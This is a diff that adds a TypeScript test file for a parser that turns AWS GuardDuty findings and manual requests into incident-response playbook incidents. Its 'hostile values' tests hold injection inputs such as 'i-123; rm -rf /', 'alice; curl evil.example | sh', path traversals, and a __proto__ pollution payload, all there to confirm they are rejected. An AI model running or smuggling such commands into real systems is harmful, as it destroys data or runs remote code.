@@ -1,0 +1,601 @@
+import { describe, expect, it } from 'vitest';
+import { InvalidFindingError } from '../../../shared/errors/index.ts';
+import { incidentIdFor, parseFindingMessage, type PlaybookName } from '../../../shared/findings/index.ts';
+import { ACCOUNT_ID, INSTANCE_ID, fixtureBody, fixtureEvent, fixtureNames, manualEvent } from '../helpers/factories.ts';
+
+interface Expected {
+  playbook: PlaybookName;
+  resourceId: string;
+  findingType: string;
+  severity: number;
+  archived: boolean;
+  sample: boolean;
+  count: number;
+  remoteIps: string[];
+}
+
+const ec2 = (findingType: string, severity: number, remoteIps: string[], resourceId = INSTANCE_ID, extra: Partial<Expected> = {}): Expected => ({
+  playbook: 'ec2-instance',
+  resourceId,
+  findingType,
+  severity,
+  archived: false,
+  sample: false,
+  count: 1,
+  remoteIps,
+  ...extra,
+});
+
+// Expected values read off the fixtures by hand (see test/fixtures/guardduty/README.md).
+const EXPECTED: Record<string, Expected> = {
+  'container-runtime-reverseshell.json': {
+    playbook: 'container',
+    resourceId: '5e2f8a1c4b7d0e3f6a9c2b5d8e1f4a7c0b3d6e9f2a5c8b1d4e7f0a3c6b9d2e5f',
+    findingType: 'Execution:Runtime/ReverseShell',
+    severity: 8,
+    archived: false,
+    sample: false,
+    count: 1,
+    remoteIps: ['192.0.2.145'],
+  },
+  'ec2-bitcointool-b-dns.json': ec2('CryptoCurrency:EC2/BitcoinTool.B!DNS', 8, [], 'i-0d4c3b2a1f0e98765'),
+  'ec2-c-cactivity-b.json': ec2('Backdoor:EC2/C&CActivity.B', 8, ['198.51.100.23']),
+  'ec2-runtime-newbinaryexecuted.json': ec2('Execution:Runtime/NewBinaryExecuted', 5, []),
+  'ec2-sshbruteforce.json': ec2('UnauthorizedAccess:EC2/SSHBruteForce', 2, ['203.0.113.47']),
+  'ecs-fargate-runtime-newbinaryexecuted.json': {
+    playbook: 'ecs-task',
+    resourceId: 'arn:aws:ecs:us-east-1:111122223333:task/payments-prod/3f6c0b2a9d8e4f7a8b1c2d3e4f5a6b7c',
+    findingType: 'Execution:Runtime/NewBinaryExecuted',
+    severity: 5,
+    archived: false,
+    sample: false,
+    count: 1,
+    remoteIps: [],
+  },
+  'edge-archived.json': ec2('Backdoor:EC2/C&CActivity.B!DNS', 8, [], 'i-0d4c3b2a1f0e98765', { archived: true, count: 3 }),
+  'edge-low-severity.json': ec2('Recon:EC2/PortProbeUnprotectedPort', 2, ['203.0.113.9', '198.51.100.4']),
+  'edge-sample.json': ec2('Backdoor:EC2/C&CActivity.B', 8, ['198.51.100.23'], INSTANCE_ID, { sample: true }),
+  'iam-role-instancecredentialexfiltration-outsideaws.json': {
+    playbook: 'iam-role',
+    resourceId: 'web-app-instance-role',
+    findingType: 'UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS',
+    severity: 8,
+    archived: false,
+    sample: false,
+    count: 1,
+    remoteIps: ['198.51.100.140'],
+  },
+  'iam-user-consoleloginsuccess-b.json': {
+    playbook: 'iam-user',
+    resourceId: 'alice.nguyen',
+    findingType: 'UnauthorizedAccess:IAMUser/ConsoleLoginSuccess.B',
+    severity: 5,
+    archived: false,
+    sample: false,
+    count: 1,
+    remoteIps: ['203.0.113.150'],
+  },
+  'iam-user-rootcredentialusage.json': {
+    playbook: 'account',
+    resourceId: ACCOUNT_ID,
+    findingType: 'Policy:IAMUser/RootCredentialUsage',
+    severity: 2,
+    archived: false,
+    sample: false,
+    count: 1,
+    remoteIps: ['203.0.113.201'],
+  },
+  'rds-anomalousbehavior-successfullogin.json': {
+    playbook: 'rds-instance',
+    resourceId: 'orders-aurora-instance-1',
+    findingType: 'CredentialAccess:RDS/AnomalousBehavior.SuccessfulLogin',
+    severity: 5,
+    archived: false,
+    sample: false,
+    count: 1,
+    remoteIps: ['203.0.113.88'],
+  },
+  's3-bucketblockpublicaccessdisabled.json': {
+    playbook: 's3-bucket',
+    resourceId: 'acme-prod-static-assets',
+    findingType: 'Policy:S3/BucketBlockPublicAccessDisabled',
+    severity: 2,
+    archived: false,
+    sample: false,
+    count: 1,
+    remoteIps: ['203.0.113.10'],
+  },
+  's3-exfiltration-anomalousbehavior.json': {
+    playbook: 's3-bucket',
+    resourceId: 'acme-prod-customer-exports',
+    findingType: 'Exfiltration:S3/AnomalousBehavior',
+    severity: 8,
+    archived: false,
+    sample: false,
+    count: 1,
+    remoteIps: ['192.0.2.201'],
+  },
+};
+
+const rejectionOf = (body: string): InvalidFindingError => {
+  try {
+    parseFindingMessage(body);
+  } catch (error) {
+    if (error instanceof InvalidFindingError) return error;
+    throw error;
+  }
+  throw new Error('expected the message to be rejected, but it parsed');
+};
+
+/** The EC2 fixture with `mutate` applied to a copy of its event. */
+const ec2Variant = (mutate: (event: any) => void): string => {
+  const event = fixtureEvent('ec2-c-cactivity-b.json');
+  mutate(event);
+  return JSON.stringify(event);
+};
+
+describe('Function: parseFindingMessage', () => {
+  describe('GuardDuty fixtures', () => {
+    it('has an expectation for every fixture file', () => {
+      // Prepare
+      const files = fixtureNames();
+
+      // Act
+      const missing = files.filter((f) => !(f in EXPECTED));
+
+      // Assess
+      expect(files).toHaveLength(15);
+      expect(missing).toEqual([]);
+    });
+
+    it.each(Object.entries(EXPECTED))('routes %s to its playbook with the finding facts', (file, expected) => {
+      // Prepare
+      const event = fixtureEvent(file);
+
+      // Act
+      const incidents = parseFindingMessage(fixtureBody(file));
+
+      // Assess
+      expect(incidents).toHaveLength(1);
+      const [incident] = incidents;
+      expect(incident).toMatchObject({
+        playbook: expected.playbook,
+        origin: 'guardduty',
+        findingId: event.detail.id,
+        findingArn: event.detail.arn,
+        findingType: expected.findingType,
+        severity: expected.severity,
+        archived: expected.archived,
+        sample: expected.sample,
+        count: expected.count,
+        accountId: ACCOUNT_ID,
+        region: 'us-east-1',
+        partition: 'aws',
+        eventId: event.id,
+        eventTime: event.time,
+        createdAt: event.detail.createdAt,
+        updatedAt: event.detail.updatedAt,
+      });
+      expect(incident!.resource.id).toBe(expected.resourceId);
+      expect(incident!.resource.type).toBe(event.detail.resource.resourceType);
+      expect(incident!.remoteIps).toEqual(expected.remoteIps);
+      expect(incident!.incidentId).toBe(incidentIdFor(ACCOUNT_ID, event.detail.id, expected.resourceId));
+    });
+  });
+
+  describe('routing details', () => {
+    it('keeps the ENI and VPC of an EC2 finding as hints', () => {
+      // Act
+      const [incident] = parseFindingMessage(fixtureBody('ec2-c-cactivity-b.json'));
+
+      // Assess
+      expect(incident!.resource.hints).toEqual({ eniIds: ['eni-0b7c1d2e3f4a5b6c7'], vpcId: 'vpc-0a1b2c3d4e5f60718' });
+    });
+
+    it('routes an assumed-role key finding to the role, keeping the session principal and temporary key', () => {
+      // Act
+      const [incident] = parseFindingMessage(fixtureBody('iam-role-instancecredentialexfiltration-outsideaws.json'));
+
+      // Assess
+      expect(incident!.resource.hints).toEqual({
+        userType: 'AssumedRole',
+        accessKeyId: 'ASIA4EXAMPLEWEBROLE3',
+        principalId: 'AROA4EXAMPLEWEBROLE7Q:i-0a1b2c3d4e5f67890',
+      });
+    });
+
+    it('routes a console login (no access key) to the IAM user without an access key hint', () => {
+      // Act
+      const [incident] = parseFindingMessage(fixtureBody('iam-user-consoleloginsuccess-b.json'));
+
+      // Assess
+      expect(incident!.resource.hints).toEqual({ userType: 'IAMUser', principalId: 'AIDA4EXAMPLEALICE7XQZ' });
+    });
+
+    it('routes a federated user key finding to the IAM user playbook', () => {
+      // Prepare
+      const body = JSON.stringify(
+        Object.assign(fixtureEvent('iam-user-consoleloginsuccess-b.json'), {}),
+      ).replace('"userType":"IAMUser"', '"userType":"FederatedUser"');
+
+      // Act
+      const [incident] = parseFindingMessage(body);
+
+      // Assess
+      expect(incident!.playbook).toBe('iam-user');
+    });
+
+    it('keeps the host instance of a standalone container as a hint', () => {
+      // Act
+      const [incident] = parseFindingMessage(fixtureBody('container-runtime-reverseshell.json'));
+
+      // Assess
+      expect(incident!.resource.hints).toEqual({ instanceId: 'i-0f9e8d7c6b5a43210' });
+    });
+
+    it('opens one incident per bucket when an S3 finding names several buckets', () => {
+      // Prepare
+      const event = fixtureEvent('s3-exfiltration-anomalousbehavior.json');
+      event.detail.resource.s3BucketDetails.push({ ...event.detail.resource.s3BucketDetails[0], name: 'acme-prod-second-bucket' });
+
+      // Act
+      const incidents = parseFindingMessage(JSON.stringify(event));
+
+      // Assess
+      expect(incidents.map((i) => [i.playbook, i.resource.id])).toEqual([
+        ['s3-bucket', 'acme-prod-customer-exports'],
+        ['s3-bucket', 'acme-prod-second-bucket'],
+      ]);
+      expect(new Set(incidents.map((i) => i.incidentId)).size).toBe(2);
+    });
+
+    it('rejects an S3 finding that names no bucket', () => {
+      // Prepare
+      const event = fixtureEvent('s3-exfiltration-anomalousbehavior.json');
+      event.detail.resource.s3BucketDetails = [];
+
+      // Act
+      const error = rejectionOf(JSON.stringify(event));
+
+      // Assess
+      expect(error.reasons).toEqual(['resource.s3BucketDetails: no bucket named']);
+    });
+
+    it('rejects a key finding with an unsupported user type', () => {
+      // Prepare
+      const body = fixtureBody('iam-user-consoleloginsuccess-b.json').replace('"userType": "IAMUser"', '"userType": "AWSService"');
+
+      // Act
+      const error = rejectionOf(body);
+
+      // Assess
+      expect(error.reasons[0]).toMatch(/^resource\.accessKeyDetails\.userType: unsupported value "AWSService"/);
+    });
+  });
+
+  describe('sample, archived and redelivered findings', () => {
+    it('flags a sample finding by its additionalInfo.sample marker alone', () => {
+      // Prepare
+      const body = ec2Variant((e) => {
+        e.detail.service.additionalInfo = { sample: true };
+      });
+
+      // Act
+      const [incident] = parseFindingMessage(body);
+
+      // Assess
+      expect(incident!.sample).toBe(true);
+    });
+
+    it('flags a sample finding by its [SAMPLE] title alone', () => {
+      // Prepare
+      const body = ec2Variant((e) => {
+        e.detail.title = '[SAMPLE] EC2 instance is communicating with a C&C server';
+      });
+
+      // Act
+      const [incident] = parseFindingMessage(body);
+
+      // Assess
+      expect(incident!.sample).toBe(true);
+    });
+
+    it('keeps the same incident id when GuardDuty re-publishes the finding with a new envelope and a higher count', () => {
+      // Prepare
+      const first = fixtureBody('ec2-c-cactivity-b.json');
+      const again = ec2Variant((e) => {
+        e.id = '99999999-5b6c-4d7e-8f9a-0b1c2d3e4f5a';
+        e.time = '2025-06-19T20:40:09Z';
+        e.detail.service.count = 7;
+        e.detail.updatedAt = '2025-06-19T20:35:02.877Z';
+      });
+
+      // Act
+      const [a] = parseFindingMessage(first);
+      const [b] = parseFindingMessage(again);
+
+      // Assess
+      expect(b!.incidentId).toBe(a!.incidentId);
+      expect(b!.eventId).not.toBe(a!.eventId);
+      expect(b!.count).toBe(7);
+    });
+
+    it('gives a different incident to the same finding about another resource', () => {
+      // Prepare
+      const other = ec2Variant((e) => {
+        e.detail.resource.instanceDetails.instanceId = 'i-0fffffffffffffff0';
+      });
+
+      // Act
+      const [a] = parseFindingMessage(fixtureBody('ec2-c-cactivity-b.json'));
+      const [b] = parseFindingMessage(other);
+
+      // Assess
+      expect(b!.incidentId).not.toBe(a!.incidentId);
+    });
+  });
+
+  describe('rejections', () => {
+    it('rejects a body that is not JSON', () => {
+      // Act
+      const error = rejectionOf('{"source": "aws.guardduty",');
+
+      // Assess
+      expect(error.reasons).toEqual(['message body is not JSON']);
+      expect(error.retryable).toBe(false);
+      expect(error.cause).toBeInstanceOf(SyntaxError);
+    });
+
+    it('rejects an event from another source', () => {
+      // Act
+      const error = rejectionOf(ec2Variant((e) => (e.source = 'aws.securityhub')));
+
+      // Assess
+      expect(error.reasons.join()).toContain('source must be aws.guardduty or firebreak.manual');
+    });
+
+    it('rejects a GuardDuty event that is not a finding (another detail-type)', () => {
+      // Act
+      const error = rejectionOf(ec2Variant((e) => (e['detail-type'] = 'GuardDuty Runtime Protection Unhealthy')));
+
+      // Assess
+      expect(error.reasons).toEqual(['detail-type "GuardDuty Runtime Protection Unhealthy" is not a GuardDuty finding']);
+    });
+
+    it.each([
+      ['the envelope id', (e: any) => delete e.id, 'event.id'],
+      ['the finding id', (e: any) => delete e.detail.id, 'detail.id'],
+      ['the account id', (e: any) => delete e.detail.accountId, 'detail.accountId'],
+      ['the severity', (e: any) => delete e.detail.severity, 'detail.severity'],
+      ['the resource', (e: any) => delete e.detail.resource, 'detail.resource'],
+      ['the service', (e: any) => delete e.detail.service, 'detail.service'],
+      ['the instance id', (e: any) => delete e.detail.resource.instanceDetails.instanceId, 'detail.resource.instanceDetails.instanceId'],
+    ])('rejects a finding without %s, naming the field', (_what, mutate, field) => {
+      // Act
+      const error = rejectionOf(ec2Variant(mutate));
+
+      // Assess
+      expect(error.reasons.some((r) => r.startsWith(`${field}:`))).toBe(true);
+    });
+
+    it('rejects an unknown resource type', () => {
+      // Act
+      const error = rejectionOf(ec2Variant((e) => (e.detail.resource.resourceType = 'Lambda')));
+
+      // Assess
+      expect(error.reasons).toEqual(['resource.resourceType: unknown resource type "Lambda"']);
+    });
+
+    it('rejects a severity outside 0-10', () => {
+      // Act
+      const error = rejectionOf(ec2Variant((e) => (e.detail.severity = 11)));
+
+      // Assess
+      expect(error.reasons[0]).toMatch(/^detail\.severity:/);
+    });
+  });
+
+  describe('hostile values', () => {
+    it.each([
+      ['a shell command', 'i-123; rm -rf /'],
+      ['a path traversal', '../../etc/passwd'],
+      ['unicode look-alikes', 'i-0a1b2c3d4e5f6789\u0660'],
+      ['a 10 KB string', `i-${'a'.repeat(10 * 1024)}`],
+    ])('rejects an instance id that is %s', (_what, instanceId) => {
+      // Act
+      const error = rejectionOf(ec2Variant((e) => (e.detail.resource.instanceDetails.instanceId = instanceId)));
+
+      // Assess
+      expect(error.reasons[0]).toMatch(/^resource\.instanceDetails\.instanceId: not an EC2 instance id/);
+    });
+
+    it.each([
+      ['a path traversal', '../../etc'],
+      ['a shell command', 'alice; curl evil.example | sh'],
+      ['unicode', 'alïce'],
+      ['a 10 KB string', 'a'.repeat(10 * 1024)],
+    ])('rejects an IAM user name that is %s', (_what, userName) => {
+      // Prepare
+      const event = fixtureEvent('iam-user-consoleloginsuccess-b.json');
+      event.detail.resource.accessKeyDetails.userName = userName;
+
+      // Act
+      const error = rejectionOf(JSON.stringify(event));
+
+      // Assess
+      expect(error.reasons[0]).toMatch(/^resource\.accessKeyDetails\.userName:/);
+    });
+
+    it.each([
+      ['a path traversal', '../../etc'],
+      ['upper case and spaces', 'My Bucket'],
+    ])('rejects a bucket name that is %s', (_what, name) => {
+      // Prepare
+      const event = fixtureEvent('s3-exfiltration-anomalousbehavior.json');
+      event.detail.resource.s3BucketDetails[0].name = name;
+
+      // Act
+      const error = rejectionOf(JSON.stringify(event));
+
+      // Assess
+      expect(error.reasons[0]).toMatch(/^resource\.s3BucketDetails\[\]\.name: not an S3 bucket name/);
+    });
+
+    it('rejects an instance id that is not a string', () => {
+      // Act
+      const error = rejectionOf(ec2Variant((e) => (e.detail.resource.instanceDetails.instanceId = 12345)));
+
+      // Assess
+      expect(error.reasons[0]).toMatch(/^detail\.resource\.instanceDetails\.instanceId: .*expected string/);
+    });
+
+    it('rejects a finding id with path characters', () => {
+      // Act
+      const error = rejectionOf(ec2Variant((e) => (e.detail.id = '../../etc')));
+
+      // Assess
+      expect(error.reasons[0]).toMatch(/^detail\.id: not a GuardDuty finding id/);
+    });
+
+    it('truncates a 10 KB title and strips its control characters instead of trusting it', () => {
+      // Prepare
+      const body = ec2Variant((e) => (e.detail.title = `evil\u0000\u001b[31m${'x'.repeat(10 * 1024)}`));
+
+      // Act
+      const [incident] = parseFindingMessage(body);
+
+      // Assess
+      expect(incident!.title).toHaveLength(512);
+      expect(incident!.title.startsWith('evil  [31m')).toBe(true);
+    });
+
+    it('ignores a __proto__ key in the finding without polluting prototypes', () => {
+      // Prepare
+      const body = fixtureBody('ec2-c-cactivity-b.json').replace('"resource": {', '"__proto__": {"polluted": true, "resourceType": "S3Bucket"}, "resource": {');
+
+      // Act
+      const [incident] = parseFindingMessage(body);
+
+      // Assess
+      expect(incident!.playbook).toBe('ec2-instance');
+      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
+      expect(Object.getPrototypeOf(incident)).toBe(Object.prototype);
+    });
+
+    it('rejects __proto__ as a resource type', () => {
+      // Act
+      const error = rejectionOf(ec2Variant((e) => (e.detail.resource.resourceType = '__proto__')));
+
+      // Assess
+      expect(error.reasons[0]).toMatch(/^detail\.resource\.resourceType:/);
+    });
+
+    it('does not take a resource type from a __proto__ object', () => {
+      // Prepare
+      const body = ec2Variant((e) => delete e.detail.resource.resourceType).replace('"resource":{', '"resource":{"__proto__":{"resourceType":"Instance"},');
+
+      // Act
+      const error = rejectionOf(body);
+
+      // Assess
+      expect(error.reasons[0]).toMatch(/^detail\.resource\.resourceType:/);
+    });
+  });
+
+  describe('manual findings', () => {
+    const valid = { resource: { resourceType: 'Instance', id: INSTANCE_ID }, ticket: 'SEC-1234', requestedBy: 'alice@example.com' };
+
+    it('turns a manual request into an EC2 incident with the ticket and requester', () => {
+      // Act
+      const [incident] = parseFindingMessage(JSON.stringify(manualEvent(valid)));
+
+      // Assess
+      expect(incident).toMatchObject({
+        playbook: 'ec2-instance',
+        origin: 'manual',
+        findingId: 'manual-SEC-1234',
+        findingType: 'Manual:Firebreak/Containment',
+        title: 'Manual containment requested by alice@example.com',
+        severity: 10,
+        accountId: ACCOUNT_ID,
+        region: 'us-east-1',
+        archived: false,
+        sample: false,
+        count: 1,
+        ticket: 'SEC-1234',
+        requestedBy: 'alice@example.com',
+        remoteIps: [],
+        resource: { type: 'Instance', id: INSTANCE_ID, hints: {} },
+      });
+      expect(incident!.incidentId).toBe(incidentIdFor(ACCOUNT_ID, 'manual-SEC-1234', INSTANCE_ID));
+    });
+
+    it('acts in the account, region and severity the request names, and keeps its reason', () => {
+      // Prepare
+      const detail = { ...valid, ticket: 'INC#42/b', accountId: '444455556666', region: 'eu-west-1', severity: 6, reason: 'seen on the honeypot' };
+
+      // Act
+      const [incident] = parseFindingMessage(JSON.stringify(manualEvent(detail)));
+
+      // Assess
+      expect(incident).toMatchObject({ accountId: '444455556666', region: 'eu-west-1', severity: 6, title: 'seen on the honeypot', findingId: 'manual-INC_42_b' });
+    });
+
+    it.each([
+      ['shell characters', 'SEC-1; rm -rf /'],
+      ['a leading dash', '-SEC-1'],
+      ['spaces', 'SEC 1'],
+      ['more than 64 characters', `S${'1'.repeat(64)}`],
+      ['unicode', 'SEC-１'],
+    ])('rejects a ticket with %s', (_what, ticket) => {
+      // Act
+      const error = rejectionOf(JSON.stringify(manualEvent({ ...valid, ticket })));
+
+      // Assess
+      expect(error.reasons[0]).toMatch(/^detail\.ticket: ticket must be 1-64 characters/);
+    });
+
+    it('rejects a requester that is not an IAM-style name', () => {
+      // Act
+      const error = rejectionOf(JSON.stringify(manualEvent({ ...valid, requestedBy: 'alice <script>' })));
+
+      // Assess
+      expect(error.reasons[0]).toMatch(/^detail\.requestedBy:/);
+    });
+
+    it('rejects a manual request with a hostile instance id', () => {
+      // Act
+      const error = rejectionOf(JSON.stringify(manualEvent({ ...valid, resource: { resourceType: 'Instance', id: 'i-123; rm -rf /' } })));
+
+      // Assess
+      expect(error.reasons).toEqual(['detail.resource.id: not an EC2 instance id']);
+    });
+
+    it('rejects a manual request for a resource type without a manual playbook', () => {
+      // Act
+      const error = rejectionOf(JSON.stringify(manualEvent({ ...valid, resource: { resourceType: 'S3Bucket', id: 'acme-bucket' } })));
+
+      // Assess
+      expect(error.reasons).toEqual(['detail.resource.resourceType: manual findings for "S3Bucket" are not supported yet']);
+    });
+
+    it('rejects a manual source with the GuardDuty detail-type', () => {
+      // Act
+      const error = rejectionOf(JSON.stringify(manualEvent(valid, { 'detail-type': 'GuardDuty Finding' })));
+
+      // Assess
+      expect(error.reasons).toEqual(['detail-type must be "Firebreak Manual Finding" for source firebreak.manual']);
+    });
+
+    it('rejects a manual request without a ticket', () => {
+      // Prepare
+      const { ticket: _ticket, ...withoutTicket } = valid;
+
+      // Act
+      const error = rejectionOf(JSON.stringify(manualEvent(withoutTicket)));
+
+      // Assess
+      expect(error.reasons[0]).toMatch(/^detail\.ticket:/);
+    });
+  });
+});
